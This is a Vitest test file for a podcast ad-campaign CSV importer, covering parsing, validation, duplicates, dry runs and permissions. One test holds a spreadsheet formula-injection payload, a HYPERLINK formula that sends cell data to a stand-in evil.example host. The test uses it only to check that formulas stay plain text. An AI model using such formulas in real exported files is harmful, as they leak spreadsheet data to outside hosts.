import { afterAll, beforeAll, expect, it } from 'vitest';
import { newId } from '@castgraph/kernel/ids';
import { listCampaigns } from '../campaigns/list-campaigns.ts';
import { changeCampaignState } from '../campaigns/change-campaign-state.ts';
import { openWorkspace, type Workspace } from '../fixture/workspace.ts';
import { listSponsors } from '../sponsors/list-sponsors.ts';
import { countVerdicts, importCampaigns } from './import-campaigns.ts';
import { IMPORT_COLUMNS, importTemplate } from './import-columns.ts';

let workspace: Workspace;
let organizationId: string;
let show: { podcastId: string; episodeIds: string[] };
beforeAll(async () => {
  workspace = await openWorkspace();
});
afterAll(() => workspace.close());

const as = () => workspace.as('owner', organizationId);
const HEAD = 'sponsor,campaign,first_day,last_day,currency,cost,show';
const DAYS = '2031-03-01,2031-03-31,EUR,"1.250,00"';
async function begin(): Promise<void> {
  organizationId = newId();
  show = await workspace.addShow({ organizationId, episodes: 2 });
}
type Options = Partial<Parameters<typeof importCampaigns>[1]>;
const load = (csv: string, options: Options = {}) => importCampaigns(as(), { csv, ...options });
const verdicts = ({ rows }: Awaited<ReturnType<typeof load>>) => rows.map(({ verdict }) => verdict);
const all = async () => (await listCampaigns(as(), { limit: 100, after: undefined })).campaigns;

it('makes campaigns of rows, their flights, placements, sponsors and brands, whatever separates the cells', async () => {
  for (const separator of [',', ';', '\t']) {
    await begin();
    const cells = [
      [
        'Sponsor',
        'campaign',
        'first-day',
        'LAST DAY',
        'currency',
        'cost',
        'brand',
        'markets',
        'show',
        'position',
        'price',
        'talking points',
        'draft',
      ],
      [
        'Northwind',
        'Autumn',
        '2031-03-01',
        '2031-03-31',
        'EUR',
        '"1250,00"',
        'Cold brew',
        'DE|AT',
        'Test show',
        'pre-roll',
        '"99,50"',
        '"Fresh ""roast""\nevery day|null"',
        '',
      ],
      ['NORTHWIND', 'autumn', '2031-04-02', '2031-04-09', 'EUR', '', '', '', show.podcastId, '', '', '', ''],
      ['Northwind', 'Winter', '2031-12-01', '2031-12-02', 'USD', '10', 'cold BREW', '', '', '', '', '', 'yes'],
    ];
    const result = await load(`\uFEFF${cells.map((row) => row.join(separator)).join('\r\n')}\r\n\r\n`);
    expect([separator, verdicts(result)]).toEqual([separator, ['CREATED', 'CREATED', 'CREATED']]);
    const [winter, autumn] = await all();
    expect(autumn).toMatchObject({
      name: 'Autumn',
      costMinor: 125_000,
      flightFrom: '2031-03-01',
      flightTo: '2031-04-09',
      markets: ['AT', 'DE'],
      state: 'BOOKED',
    });
    expect(winter).toMatchObject({ state: 'DRAFT', currency: 'USD', brandId: autumn!.brandId });
    expect((await listSponsors(as())).map(({ name }) => name)).toEqual(['Northwind']);
    const placements = (await as().loaders.placementsOfCampaign.load(autumn!.id))!;
    expect(placements.map(({ position, pricing, priceMinor }) => [position, pricing, priceMinor])).toEqual([
      ['PRE_ROLL', 'FLAT', 9_950],
      ['MID_ROLL', 'CPM', null],
    ]);
    expect(placements[0]!.talkingPoints).toEqual(['Fresh "roast"\nevery day', 'null']);
    expect(result.rows.map(({ placementId }) => placementId)).toEqual([...placements.map(({ id }) => id), null]);
  }
});

it('says of each row that cannot be taken why and where, and makes nothing unless they are to be left out', async () => {
  await begin();
  const rows: [string, string | null][] = [
    [`Northwind,Autumn,${DAYS},Test show`, null],
    [`,Autumn,${DAYS},Test show`, 'sponsor'],
    [`Northwind,Autumn,01.03.2031,2031-03-31,EUR,1,Test show`, 'first_day'],
    [`Northwind,Autumn,2031-03-01,2031-02-30,EUR,1,Test show`, 'last_day'],
    [`Northwind,Autumn,2031-03-02,2031-03-01,EUR,1,Test show`, 'last_day'],
    [`Northwind,Autumn,2031-03-01,2031-03-31,Euro,1,Test show`, 'currency'],
    [`Northwind,Autumn,2031-03-01,2031-03-31,EUR,=1+1,Test show`, 'cost'],
    [`Northwind,Autumn,2031-03-01,2031-03-31,EUR,7,Test show`, 'cost'],
    [`Northwind,Autumn,${DAYS},No such show`, 'show'],
    [`Northwind,Autumn,2031-03-20,2031-04-20,EUR,,Test show`, 'first_day'],
    [`Northwind,Free,2031-03-01,2031-03-31,EUR,,Test show`, 'cost'],
    [`${'x'.repeat(201)},Autumn,${DAYS},Test show`, 'sponsor'],
  ];
  const csv = [HEAD, ...rows.map(([row]) => row)].join('\n');
  const nothing = await load(csv);
  expect(nothing.rows.map(({ column }) => column)).toEqual(rows.map(([, column]) => column));
  expect(countVerdicts(nothing.rows)).toEqual({ created: 0, duplicates: 0, rejected: 11, heldBack: 1 });
  expect([await all(), await listSponsors(as())]).toEqual([[], []]);
  expect(nothing.rows.every(({ campaignId, placementId }) => campaignId === null && placementId === null)).toBe(true);
  const rest = await load(csv, { onRejected: 'LEAVE_OUT' });
  expect(countVerdicts(rest.rows)).toEqual({ created: 1, duplicates: 0, rejected: 11, heldBack: 0 });
  expect(await all()).toHaveLength(1);
  // What was left out is looked at again when the table comes again.
  const again = await load(csv, { onRejected: 'LEAVE_OUT' });
  expect(countVerdicts(again.rows)).toMatchObject({ created: 0, duplicates: 1, rejected: 11 });
  expect(again.repeated).toBe(false);
});

it('takes a table once, also from two at once, and rows that are there as duplicates', async () => {
  await begin();
  const csv = `${HEAD}\nNorthwind,Autumn,${DAYS},Test show\nNorthwind,Autumn,${DAYS},Test show\n`;
  const both = await Promise.all([load(csv), load(csv)]);
  expect(both.filter(({ repeated }) => repeated)).toHaveLength(1);
  expect(both[0].rows).toEqual(both[1].rows);
  expect(verdicts(both[0])).toEqual(['CREATED', 'DUPLICATE']);
  expect(both[0].rows[1]!.placementId).toBe(both[0].rows[0]!.placementId);
  const more = await load(`${csv}Northwind,AUTUMN,2031-05-01,2031-05-02,EUR,,Test show\n`);
  expect(verdicts(more)).toEqual(['DUPLICATE', 'DUPLICATE', 'CREATED']);
  const [campaign, ...others] = await all();
  expect(others).toEqual([]);
  expect(campaign).toMatchObject({ flightTo: '2031-05-02', version: 2 });
  const spring = await load(`${HEAD}\nNorthwind,Autumn,2032-05-01,2032-05-02,EUR,5,Test show\n`);
  expect(spring.rows[0]!.campaignId).not.toBe(campaign!.id);
});

it('says of a dry run what would be, and makes nothing', async () => {
  await begin();
  const csv = `${HEAD}\nNorthwind,Autumn,${DAYS},Test show\n`;
  expect(await load(csv, { dryRun: true })).toMatchObject({
    rows: [{ verdict: 'CREATED', campaignId: null, placementId: null }],
    campaignIds: [],
  });
  expect([await all(), await listSponsors(as())]).toEqual([[], []]);
  expect(verdicts(await load(csv))).toEqual(['CREATED']);
});

it('keeps a formula as the text that it is', async () => {
  await begin();
  const formula = '=HYPERLINK("https://evil.example/?"&A1;"Open")';
  await load(`${HEAD}\n"${formula.replaceAll('"', '""')}",+SUM(1),${DAYS},Test show\n`);
  expect((await listSponsors(as()))[0]!.name).toBe(formula);
  expect((await all())[0]!.name).toBe('+SUM(1)');
});

it('adds nothing to a settled campaign, and names shows and episodes without guessing', async () => {
  await begin();
  const csv = `${HEAD},episode\nNorthwind,Autumn,${DAYS},Test show,\n`;
  const { campaignIds } = await load(csv);
  for (const state of ['LIVE', 'COMPLETED', 'RECONCILED'] as const)
    await as().transact((em) => em.execute('update analytics.campaign set state = ? where id = ?', [state, campaignIds[0]]));
  const row = (place: string) => `${HEAD},episode\nNorthwind,Autumn,${DAYS},${place}\n`;
  const reject = async (csvOf: string) => (await load(csvOf)).rows[0];
  expect(await reject(row(`Test show,${show.episodeIds[0]}`))).toMatchObject({
    verdict: 'REJECTED',
    column: 'campaign',
    cause: 'The campaign is settled',
  });
  expect(await reject(row('Test show,Test episode'))).toMatchObject({ column: 'episode', cause: expect.stringContaining('Several') });
  await workspace.addShow({ organizationId });
  expect(await reject(row('test SHOW,'))).toMatchObject({ column: 'show', cause: expect.stringContaining('Several') });
  const other = await workspace.addShow({ organizationId: newId() });
  expect(await reject(row(`${other.podcastId},`))).toMatchObject({ column: 'show', cause: expect.stringContaining('There is no show') });
  await expect(changeCampaignState(as(), { campaignId: campaignIds[0]!, state: 'LIVE' })).rejects.toMatchObject({ code: 'CONFLICT' });
});

it.each<[string, string]>([
  ['an empty table', '\n\n'],
  ['a column that nobody knows', `${HEAD},surprise\n`],
  ['a column that stands twice', `${HEAD},show\n`],
  ['a column that is missing', 'sponsor,campaign\n'],
  ['a quote that is never closed', `${HEAD}\n"Northwind,Autumn\n`],
  ['more than 10,000 rows', `${HEAD}\n${'a,b,c,d,e,f,g\n'.repeat(10_001)}`],
  ['more than 2,000,000 characters', 'x'.repeat(2_000_001)],
])('refuses %s', async (_, csv) => {
  await begin();
  await expect(load(csv)).rejects.toMatchObject({ code: 'BAD_INPUT' });
});

it('takes 10,000 rows of hundreds of campaigns', async () => {
  await begin();
  const rows = Array.from(
    { length: 10_000 },
    (_, i) =>
      `Sponsor ${i % 40},Campaign ${i % 400},${DAYS},Test show,${1 + (Math.floor(i / 400) % 20)},${i % 3 ? 'PRE_ROLL' : 'POST_ROLL'}`,
  );
  const result = await load([`${HEAD},pod_position,position`, ...rows].join('\n'));
  const { created, duplicates, rejected } = countVerdicts(result.rows);
  expect([created + duplicates, rejected, result.campaignIds.length]).toEqual([10_000, 0, 400]);
  const spots = new Set(rows.map((row) => row.toLowerCase()));
  expect(created).toBe(spots.size);
}, 120_000);

it('shows in the template all that a row can say, and takes it but for the show', async () => {
  await begin();
  const { rows } = await load(importTemplate(), { dryRun: true });
  expect(rows).toMatchObject([{ verdict: 'REJECTED', column: 'show' }]);
  expect(importTemplate().split('\r\n')[0]!.split(',')).toEqual(IMPORT_COLUMNS.map(({ name }) => name));
});

it('is for those who write campaigns', async () => {
  await begin();
  await expect(importCampaigns(workspace.as('analyst', organizationId), { csv: HEAD })).rejects.toMatchObject({ code: 'FORBIDDEN' });
  await expect(importCampaigns(workspace.as('sponsor', organizationId), { csv: HEAD })).rejects.toMatchObject({ code: 'FORBIDDEN' });
});
